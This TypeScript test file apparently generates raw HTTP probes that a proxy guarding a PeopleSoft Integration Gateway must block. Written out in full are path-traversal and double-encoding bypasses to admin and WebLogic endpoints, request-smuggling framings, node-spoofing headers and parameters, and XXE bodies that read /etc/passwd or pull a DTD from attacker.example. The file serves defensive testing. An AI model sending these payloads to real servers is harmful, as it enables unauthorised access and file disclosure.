/** Requests that must not reach an original, as bytes: what scanners send, and what reads in two ways. */
import { envelope } from './guarded.ts'

export interface Probe {
  readonly what: string
  readonly bytes: Buffer
}

const soap = '/PSIGW/PeopleSoftServiceListeningConnector'
const plain = '/PSIGW/HttpListeningConnector'
const rest = '/PSIGW/RESTListeningConnector/PSFT_HR'
const listed = `${plain}?Operation=JOB_SYNC.v1&From=PARTNER&To=PSFT_HR`

interface Parts {
  readonly headers?: readonly string[]
  readonly body?: string | Buffer
  /** Instead of the length of the body. */
  readonly framing?: readonly string[]
}

function openProbe(authorization: string) {
  return (what: string, line: string, { headers = [], body = envelope, framing }: Parts = {}): Probe => {
    const bytes = Buffer.from(body)
    const head = [
      line.includes(' HTTP/') ? line : `${line} HTTP/1.1`,
      'Host: gateway.example',
      `Authorization: ${authorization}`,
      ...(headers.some((each) => /^content-type/i.test(each)) ? [] : ['Content-Type: text/xml']),
      ...headers,
      ...(framing ?? [`Content-Length: ${bytes.length}`]),
      'Connection: close',
    ]
    return { what, bytes: Buffer.concat([Buffer.from(`${head.join('\r\n')}\r\n\r\n`, 'latin1'), bytes]) }
  }
}

/** Shows that a probe which passes is seen. */
export function listedCall(authorization: string): Probe {
  return openProbe(authorization)('a listed call', `POST ${listed}`)
}

/** @param authorization of an operator who may call everything that is listed */
export function listProbes(authorization: string): readonly Probe[] {
  const probe = openProbe(authorization)
  const get = (path: string) => probe(`GET ${path}`, `GET ${path}`, { body: '' })
  const post = (path: string) => probe(`POST ${path}`, `POST ${path}`)
  const with_ = (header: string) => probe(header, `POST ${listed}`, { headers: [header] })
  const typed = (type: string, body: string | Buffer = envelope) =>
    probe(`a body of ${type}`, `POST ${soap}`, { headers: ['SOAPAction: "OPEN.v1"', `Content-Type: ${type}`], body })
  const posted = (what: string, body: string | Buffer) =>
    probe(what, `POST ${soap}`, { headers: ['SOAPAction: "OPEN.v1"'], body })
  const mime = [
    ...['--b', 'Content-Type: text/xml', '', '<?xml version="1.0"?><IBInfo><From><RequestingNode>PSFT_FS', '--b', ''],
    ...['<a/>', '--b--', ''],
  ].join('\r\n')
  return [
    ...['/PSEMHUB/hub', '/PSEMHUB/hub?a=b', '/psp/ps/?cmd=login', '/psc/ps/EMPLOYEE/HRMS/c/A.B.GBL'].map(get),
    ...['/PSIGW/', '/PSIGW', '/PSIGW/index.html', '/PSOL/', '/pspc/ps/', '/monitor/', '/PSINTERLINKS/'].map(get),
    ...['/console/', '/console/css/%252e%252e%252fconsole.portal', '/bea_wls_internal/', '/em/'].map(get),
    ...['/PSEMHUB/hub', '/wls-wsat/CoordinatorPortType', '/_async/AsyncResponseService', '/xmlpserver/'].map(post),
    ...['PeopleSoftListeningConnector', 'PS81ListeningConnector', 'JMSListeningConnector', 'AS2ListeningConnector'].map(
      (name) => post(`/PSIGW/${name}?Operation=JOB_SYNC.v1&From=PARTNER&To=PSFT_HR`),
    ),
    ...[
      plain,
      `${plain}/?Operation=JOB_SYNC.v1&From=PARTNER&To=PSFT_HR`,
      `/PSIGW/httplisteningconnector?Operation=JOB_SYNC.v1&From=PARTNER&To=PSFT_HR`,
      `${plain}/../PeopleSoftListeningConnector`,
      `${plain}/..;/PeopleSoftListeningConnector`,
      `${plain};/../../PSEMHUB/hub`,
      '/PSIGW/..;/PSEMHUB/hub',
      '/PSIGW/%2e%2e/PSEMHUB/hub',
      '/PSIGW/%252e%252e/PSEMHUB/hub',
      '/PSIGW/%2e%2e%2fPSEMHUB%2fhub',
      '/PSIGW/..%5c..%5cPSEMHUB/hub',
      '/PSIGW/..\\PSEMHUB\\hub',
      '/PSIGW//HttpListeningConnector?Operation=JOB_SYNC.v1&From=PARTNER&To=PSFT_HR',
      '//PSIGW/HttpListeningConnector?Operation=JOB_SYNC.v1&From=PARTNER&To=PSFT_HR',
      '/PSIGW%2fHttpListeningConnector?Operation=JOB_SYNC.v1&From=PARTNER&To=PSFT_HR',
      `${rest}/../../../PSEMHUB/hub`,
      `${rest}/PERSON.v1/..;/..;/..;/..;/PSEMHUB/hub`,
      `${rest}/PERSON.v1/%2e%2e/%2e%2e/%2e%2e/PSEMHUB/hub`,
      `${rest}/PERSON.v1/..%2f..%2f..%2fPSEMHUB/hub`,
      `${rest}/PERSON.v1/%5c..%5c..%5cPSEMHUB/hub`,
      `${rest}/PERSON.v1/%252e%252e%252f%252e%252e%252fPSEMHUB`,
      `${rest}/PERSON.v1;/..`,
      `${rest}/..;/..;/PSEMHUB.v1/hub`,
      'http://original.example/PSEMHUB/hub',
      'http://gateway.example/PSIGW/PeopleSoftListeningConnector',
      'http://gateway.example//PSIGW/../PSEMHUB/hub',
    ].map(post),
    probe('CONNECT', 'CONNECT original.example:443', { body: '' }),
    probe('OPTIONS *', 'OPTIONS *', { body: '' }),
    probe('TRACE', `TRACE ${listed}`, { body: '' }),
    probe('PUT', `PUT ${listed}`),
    probe('GET with parameters', `GET ${listed}`, { body: '' }),
    probe('a method of another server', `PROPFIND ${listed}`, { body: '' }),
    ...[
      'FinalDestination=PSFT_FS',
      'OrigNode=PSFT_FS',
      'ExternalMessageID=1',
      'NonRepudiation=Y',
      'MessageName=USER_PROFILE_SYNC',
      'Password=x',
      'OperationType=async',
      'OperationType=ping',
      'operation=USER_PROFILE_SYNC.v1',
      'Operation=USER_PROFILE_SYNC.v1',
      'OperationName=USER_PROFILE_SYNC.v1',
      'From=PSFT_FS',
      '%46rom=PSFT_FS',
      'To=',
      'a=b;From=PSFT_FS',
    ].map((parameter) => probe(`also ${parameter}`, `POST ${listed}&${parameter}`)),
    ...['FinalDestination: PSFT_FS', 'OrigNode: PSFT_FS', 'NonRepudiation: Y', 'MessageName: A', 'Password: x'].map(
      with_,
    ),
    ...['OperationType: ASYNC', 'From: PARTNER', 'To: PSFT_FS', 'Operation: A.v1', 'SOAPAction: "A.v1"'].map(with_),
    with_('SOAPAction: http://peoplesoft.com/JOB_SYNC.v1/PSFT_FS/x/PSFT_HR'),
    probe('From twice in headers', `POST ${plain}?Operation=JOB_SYNC.v1&To=PSFT_HR`, {
      headers: ['From: PARTNER', 'From: PSFT_FS'],
    }),
    probe('two SOAPActions', `POST ${soap}`, { headers: ['SOAPAction: "OPEN.v1"', 'SOAPAction: "A.v1"'] }),
    probe('an unlisted action', `POST ${soap}`, { headers: ['Content-Type: application/soap+xml; action="A.v1"'] }),
    typed('multipart/related; boundary=b', mime),
    typed('multipart/related; boundary=b; type="text/xml"; action="OPEN.v1"', mime),
    typed('text/xml, multipart/related; boundary=b', mime),
    posted('MIME without its type', mime),
    typed('application/x-www-form-urlencoded', 'Operation=A.v1&From=PSFT_FS'),
    typed('text/xml; charset=utf-16', Buffer.from(`\ufeff${envelope}`, 'utf16le')),
    typed('text/xml; charset=utf-7', '+ADwAIQ-DOCTYPE a+AD4'),
    posted('UTF-16', Buffer.from(`\ufeff<!DOCTYPE a>${envelope}`, 'utf16le')),
    posted('a DOCTYPE', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    posted('a DOCTYPE from elsewhere', '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>'),
    posted(
      'IBRequest',
      '<?xml version="1.0"?><IBRequest><ExternalOperationName>A.v1</ExternalOperationName></IBRequest>',
    ),
    posted('a body that is cut short', '<?xml version="1.0"'),
    probe('gzip', `POST ${listed}`, { headers: ['Content-Encoding: gzip'] }),
    probe('base64', `POST ${listed}`, { headers: ['Content-Transfer-Encoding: base64'] }),
    probe('two lengths', `POST ${listed}`, { framing: ['Content-Length: 6', 'Content-Length: 60'] }),
    probe('a length and chunks', `POST ${listed}`, {
      framing: ['Content-Length: 6', 'Transfer-Encoding: chunked'],
      body: `0\r\n\r\nPOST /PSEMHUB/hub HTTP/1.1\r\nHost: a\r\n\r\n`,
    }),
    probe('chunks with another name', `POST ${listed}`, {
      framing: ['Transfer-Encoding: xchunked'],
      body: `0\r\n\r\nPOST /PSEMHUB/hub HTTP/1.1\r\nHost: a\r\n\r\n`,
    }),
    probe('a space before a colon', `POST ${listed}`, { framing: ['Content-Length : 0'] }),
    probe('a folded header', `POST ${listed}`, { headers: ['SOAPAction: a', ' b'] }),
    probe('two hosts', `POST ${listed}`, { headers: ['Host: original.example'] }),
    probe('a bare line feed', `POST ${listed}`, { headers: ['A: b\nFrom: PSFT_FS'] }),
    probe('HTTP/0.9', `GET ${listed} HTTP/0.9`, { body: '' }),
    {
      what: 'the preface of HTTP/2',
      bytes: Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nGET /PSEMHUB/hub HTTP/1.1\r\nHost: a\r\n\r\n'),
    },
    probe('an upgrade of an unlisted call', `GET /PSEMHUB/hub`, {
      body: '',
      headers: ['Upgrade: websocket', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13'],
    }),
    probe('an override of the path', 'POST /PSIGW/', {
      headers: [`X-Original-URL: ${listed}`, `X-Rewrite-URL: ${listed}`],
    }),
    probe('an override of the method', `GET ${listed}`, { headers: ['X-HTTP-Method-Override: POST'], body: '' }),
  ]
}
